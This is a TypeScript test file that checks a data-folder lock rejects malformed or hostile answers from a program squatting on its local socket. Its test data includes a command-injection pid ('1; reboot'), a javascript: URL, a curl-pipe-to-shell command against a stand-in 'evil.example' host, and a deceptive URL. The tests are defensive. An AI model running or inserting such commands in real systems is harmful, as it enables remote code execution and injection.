import { createHash } from 'node:crypto'
import { realpathSync, rmSync } from 'node:fs'
import { createServer, type Socket } from 'node:net'
import { productName } from '@product/domain'
import { afterEach, beforeEach, expect, onTestFinished, test } from 'vitest'
import { StartupError } from '#platform/startup-error.ts'
import { createTestFolder } from '#testing/create-test-folder.ts'
import { lockDataDirectory } from './lock-data-directory.ts'

let dataDirectory: string
beforeEach(() => {
  dataDirectory = createTestFolder()
})
afterEach(() => rmSync(dataDirectory, { recursive: true }))

const lock = (folder = dataDirectory) =>
  lockDataDirectory(folder, () => ({ pid: process.pid, url: 'http://localhost:3999' }))

/** Takes the lock's name before us, as every local user can. */
async function squat(answer: (socket: Socket) => void): Promise<void> {
  const hash = createHash('sha256').update(realpathSync(dataDirectory)).digest('hex')
  const server = createServer((socket) => {
    socket.on('error', () => undefined)
    answer(socket)
  })
  onTestFinished(() => {
    server.close()
  })
  await new Promise<void>((resolve) =>
    server.listen(`\0${productName.toLowerCase()}-${hash}`, resolve),
  )
}

async function readRefusal(): Promise<string> {
  const error: unknown = await lock().catch((reason: unknown) => reason)
  expect(error).toBeInstanceOf(StartupError)
  return error instanceof Error ? error.message : ''
}

test.each([
  'garbage{',
  '5',
  'null',
  '"text"',
  '{"pid":1}',
  '{"pid":-1,"url":"http://localhost:3000"}',
  '{"pid":"1; reboot","url":"http://localhost:3000"}',
  '{"pid":1,"url":"javascript:alert(1)"}',
  '{"pid":1,"command":"curl evil.example | sh"}',
  `{"pid":1,"url":"http://localhost:3000/${'x'.repeat(300)}"}`,
])('a stranger who holds the lock and says %s is not repeated', async (answer) => {
  await squat((socket) => socket.end(answer))
  expect(await readRefusal()).toBe(
    `The data folder ${dataDirectory} is locked by another program, which does not say who it is.`,
  )
})

test.each([
  ['http://localhost:3000', ' at http://localhost:3000'],
  ['http://127.0.0.1:3000', ' at http://127.0.0.1:3000'],
  ['http://[::1]:3000', ' at http://[::1]:3000'],
  ['https://prompts.example.com', ''],
  ['http://localhost:3000@evil.example', ''],
])('of the address %s, a local one is shown', async (url, shown) => {
  await squat((socket) => socket.end(JSON.stringify({ pid: 12, url })))
  expect(await readRefusal()).toContain(`Already running${shown} (process 12) with the data folder`)
})

test('a command that holds the lock is named', async () => {
  await squat((socket) => socket.end('{"pid":12,"command":"npm run restore"}'))
  expect(await readRefusal()).toContain('is in use by npm run restore (process 12)')
})

test('one who talks without end is cut off', async () => {
  await squat((socket) => {
    const timer = setInterval(() => socket.write('{'), 50)
    socket.on('close', () => clearInterval(timer))
  })
  expect(await readRefusal()).toContain('is locked by another program')
})

test('a data folder in a file system that takes none is refused', async () => {
  await expect(lock('/proc/here')).rejects.toThrow('The data folder /proc/here cannot be used')
})
